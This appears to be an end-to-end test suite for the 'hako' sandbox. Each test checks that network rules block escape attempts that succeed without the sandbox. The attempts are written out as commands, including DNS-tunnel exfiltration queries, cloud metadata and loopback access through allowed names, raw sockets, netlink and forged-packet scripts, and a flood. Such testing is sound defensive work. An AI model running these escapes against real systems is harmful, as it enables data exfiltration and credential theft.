// What gets round the rules of a network: nothing of this. Each attack is one line, which is run with hako, where it must fail, and in the same
// world without, where it must succeed.
import { afterAll, beforeAll, describe, expect } from "bun:test";
import { chownSync, copyFileSync, mkdirSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { HOST_ADDRESS, NEEDS_WORLD, OutsideWorld, SERVERS, SILENCE, say, sayByUdp } from "./outside-world";
import { AS_USER, NEEDS, USER } from "./rootless-home";
import { e2e, execute, needsProgram, type Result, TIME_FACTOR } from "./support";

const needs = [...NEEDS, ...NEEDS_WORLD, needsProgram("python3")];
/** The world's own name server. */
const NAME_SERVER = "203.0.113.53";
const NETLINK = join(import.meta.dir, "fixtures/netlink-attacks.py");
const PACKETS = join(import.meta.dir, "fixtures/forged-packets.py");
let world: OutsideWorld;
beforeAll(async () => {
  if (needs.some((why) => why !== undefined)) return;
  world = await OutsideWorld.make();
  for (const address of ["127.0.0.1", "::1", HOST_ADDRESS]) await world.onHostAt(address, 80, 5432);
});
afterAll(async () => await world?.[Symbol.asyncDispose]());

/** A question for a TXT record of a name that carries something out, by UDP or TCP; it has got there when the name server's text comes back. */
function tunnel(server: string, protocol: "udp" | "tcp", seconds: number): string {
  const code = `
import socket, struct, sys
server = ${server}
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\x06secret\\x04exfi\\x04test\\0" + struct.pack(">2H", 16, 1)
s = socket.socket(socket.AF_INET, socket.${protocol === "udp" ? "SOCK_DGRAM" : "SOCK_STREAM"})
s.settimeout(${seconds})
s.connect((server, 53))
s.send(query if ${protocol === "udp" ? "True" : "False"} else struct.pack(">H", len(query)) + query)
answer = s.recv(999)
print("reached" if b"text" in answer else "refused")`;
  return `python3 -c '${code}' 2>/dev/null || echo refused`;
}

/** Seconds in which an answer comes, however busy the machine is. */
const PATIENCE = 30;
const RESOLVER = `open("/etc/resolv.conf").read().split()[1]`;

/** What the rules allow: a name's port 80, and names that lead to the host and to where clouds give credentials out. */
const RULES = ["web.test:80", "rebind.test:80", "meta.test:80", "inner.test:80", "me.test:80"];

/** What waits for an answer does so for some seconds. */
const attacksWithin = (seconds: number): Readonly<Record<string, string>> => ({
  metadata: say(SERVERS.metadata, 80),
  "metadata by an allowed name": say("meta.test", 80),
  "the host's 127.0.0.1": say("127.0.0.1", 80),
  "the host's ::1": say("::1", 80),
  "the host's 127.0.0.1 by an allowed name": say("rebind.test", 80),
  "the host's other address": say(HOST_ADDRESS, 80),
  "the host's other address by an allowed name": say("me.test", 80),
  "a private network": say(SERVERS.private, 80),
  "a private network by an allowed name": say("inner.test", 80),
  "a name that isn't allowed": say("other.test", 80),
  "a name that isn't allowed whose address an allowed name has": say("api.web.test", 80),
  "that address itself": say(SERVERS.public, 80),
  "another port of an allowed name": say("web.test", 5432),
  "UDP to an allowed name": sayByUdp("web.test", 80, seconds),
  "UDP to an address": sayByUdp(SERVERS.public, 443, seconds),
  "IPv6 by address": say(SERVERS.v6, 80),
  "IPv6 by name": say("six.test", 80),
  "a tunnel of questions to a name server": tunnel(`"${NAME_SERVER}"`, "udp", seconds),
  "a tunnel of questions by TCP": tunnel(`"${NAME_SERVER}"`, "tcp", seconds),
  "a tunnel of questions to the resolver": tunnel(RESOLVER, "udp", seconds),
  "a tunnel of questions to the resolver by TCP": tunnel(RESOLVER, "tcp", seconds),
});

/** Of who may make raw sockets: an echo of ICMP, and a packet. */
const rootsAttacksWithin = (seconds: number): Readonly<Record<string, string>> => ({
  "a raw socket": `python3 -c '
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(${seconds})
s.sendto(struct.pack(">BBHHH", 8, 0, 0xf7fd, 1, 1), ("${SERVERS.other}", 0)); s.recv(99); print("reached")' 2>/dev/null || echo refused`,
  "a packet socket": `python3 -c '
import socket
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).bind(("lo", 0)); print("reached")' 2>/dev/null || echo refused`,
  "a raw socket of IPv6": `python3 -c '
import socket
socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58); print("reached")' 2>/dev/null || echo refused`,
});

/** The attacks of that script which have reached something. */
function reached(attacks: Readonly<Record<string, string>>, { stdout }: Pick<Result, "stdout">): string[] {
  const answers = stdout.split("\n").filter((line) => line !== "");
  const names = Object.keys(attacks);
  // each says one line
  const numbers = answers.map((line) => Number(line.split(" ")[0]));
  expect(numbers.toSorted((one, other) => one - other)).toEqual(names.map((_, index) => index));
  const failed = answers
    .filter((line) => /^\d+ (refused|nothing)$/.test(line))
    .map((line) => Number.parseInt(line, 10));
  return names.filter((_, index) => !failed.includes(index));
}

/** All at once, for some wait for answers that don't come; each line that one says begins with its number. */
function script(attacks: Readonly<Record<string, string>>): string {
  const lines = Object.values(attacks).map((line, index) => `{ ${line}; } | sed 's/^/${index} /' &`);
  return [...lines, "wait"].join("\n");
}

for (const who of ["root", "user"] as const) {
  const isRoot = who === "root";
  const within = (seconds: number) => ({
    ...attacksWithin(seconds),
    ...(isRoot ? rootsAttacksWithin(seconds) : {}),
  });
  const attacks = within(SILENCE);

  describe(`an agent of ${who}`, () => {
    /** The lines by `--policy agent` in a project. */
    const agent = (rules: readonly string[], attempts: Readonly<Record<string, string>>): Result => {
      const project = world.home.box.path(`project-${who}`);
      mkdirSync(project, { recursive: true });
      if (!isRoot) chownSync(project, USER, USER);
      const words = world.words(who);
      const before = words.indexOf("--") + 1;
      const [program = "", ...rest] = words.toSpliced(before, 0, "env", "-C", project);
      const flags = rules.flatMap((rule) => ["--network", `allow:${rule}`]);
      const run = ["run", "--quiet", "--policy", "agent", ...flags, "--", "bash", "-c", script(attempts)];
      return execute(program, [...rest, ...run], { env: world.env });
    };

    e2e(
      "reaches what the rules allow and nothing else",
      () => {
        const all = { "what is allowed": say("web.test", 80), ...attacks };
        const result = agent(RULES, all);
        expect(reached(all, result)).toEqual(["what is allowed"]);
        expect(result.stderr).toBe("");
      },
      needs,
    );

    e2e(
      "reaches nothing without rules",
      () => {
        expect(reached(attacks, agent([], attacks))).toEqual([]);
      },
      needs,
    );

    e2e(
      "would reach all of it without hako",
      () => {
        const result = world.onHost(...(isRoot ? [] : AS_USER), "bash", "-c", script(within(PATIENCE)));
        expect(reached(attacks, result)).toEqual(Object.keys(attacks));
      },
      needs,
    );
  });
}

/** What `--network outbound` keeps out, whatever the program may do to its network. */
const INNER: Readonly<Record<string, string>> = {
  metadata: say(SERVERS.metadata, 80),
  "a private network": say(SERVERS.private, 80),
  "the host's other address": say(HOST_ADDRESS, 80),
  "the host's loopback": say("127.0.0.1", 80),
};

for (const [what, program] of [
  ["messages of netlink to the namespace beside its own", NETLINK],
  ["forged packets", PACKETS],
] as const)
  e2e(
    `root with all rights over its network reaches no more by ${what}`,
    () => {
      const inner = { ...INNER, "all that is outside": say(SERVERS.public, 80) };
      const line = `python3 /mnt/attack.py; echo; ${script(inner)}`;
      const copy = world.home.box.path("attack.py");
      copyFileSync(program, copy);
      const result = world.hako(
        ...["run", "--quiet", "--rootfs", "/", "-w", "/", "-v", `${copy}:/mnt/attack.py:ro`],
        ...["--network", "outbound", "--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW"],
        ...["--", "bash", "-c", line],
      );
      const [told = "", ...rest] = result.stdout.split("\n\n");
      expect(JSON.parse(told)).toEqual({ done: true, host: [] });
      // and it has harmed nobody but itself, if anybody
      expect(reached(inner, { stdout: rest.join("") })).toEqual(["all that is outside"]);
    },
    needs,
  );

for (const [what, rules, target] of [
  ["names", ["allow:web.test:*", "allow:*.test"], "web.test"],
  ["all that is outside", ["outbound"], SERVERS.public],
] as const)
  e2e(
    `a flood from a network with rules for ${what} is bounded, harms nobody else, and ends in time @all`,
    async () => {
      const seconds = 6;
      const [program = "", ...words] = world.words("root");
      const flags = rules.flatMap((rule) => ["--network", rule]);
      const flood = join(import.meta.dir, "fixtures/network-flood.py");
      const limits = ["--ulimit", "nofile=20000:20000", "--timeout", `${seconds}`];
      const begun = performance.now();
      const child = Bun.spawn(
        [
          ...[program, ...words, "run", "--quiet", "--rootfs", "/", "-w", "/", ...flags, ...limits],
          ...["-v", `${flood}:/mnt/flood.py:ro`, "--", "python3", "/mnt/flood.py", target, "203.0.113.99"],
        ],
        { env: world.env, stdio: ["ignore", "pipe", "inherit"] },
      );
      await child.stdout.getReader().read();
      const most = { descriptors: 0, memory: 0 };
      const look = () => {
        // nsenter has become hako
        most.descriptors = Math.max(most.descriptors, readdirSync(`/proc/${child.pid}/fd`).length);
        const [, kilobytes] =
          /^RssAnon:\s+(\d+)/m.exec(readFileSync(`/proc/${child.pid}/status`, "utf8")) ?? [];
        most.memory = Math.max(most.memory, Number(kilobytes) / 1024);
      };
      for (let time = 0; time < 3000; time += 200) {
        await Bun.sleep(200);
        look();
      }
      const other = world.hako(
        ...[
          "run",
          "--rootfs",
          "/",
          "-w",
          "/",
          "--network",
          "allow:web.test",
          "--",
          "bash",
          "-c",
          say("web.test", 80),
        ],
      );
      expect(other).toMatchObject({ status: 0, stdout: `${SERVERS.public} 80 hello\n`, stderr: "" });
      look();
      expect(await child.exited).toBe(124);
      // what was sent right before the end may take five seconds more
      expect(performance.now() - begun).toBeLessThan((seconds + 8) * 1000 * TIME_FACTOR);
      // two for each of 4096 connections, one for each of 1024 flows
      expect(most.descriptors).toBeLessThan(9800);
      expect(most.memory).toBeLessThan(160);
      expect(world.hako("list", "--quiet").stdout).toBe("");
    },
    needs,
  );
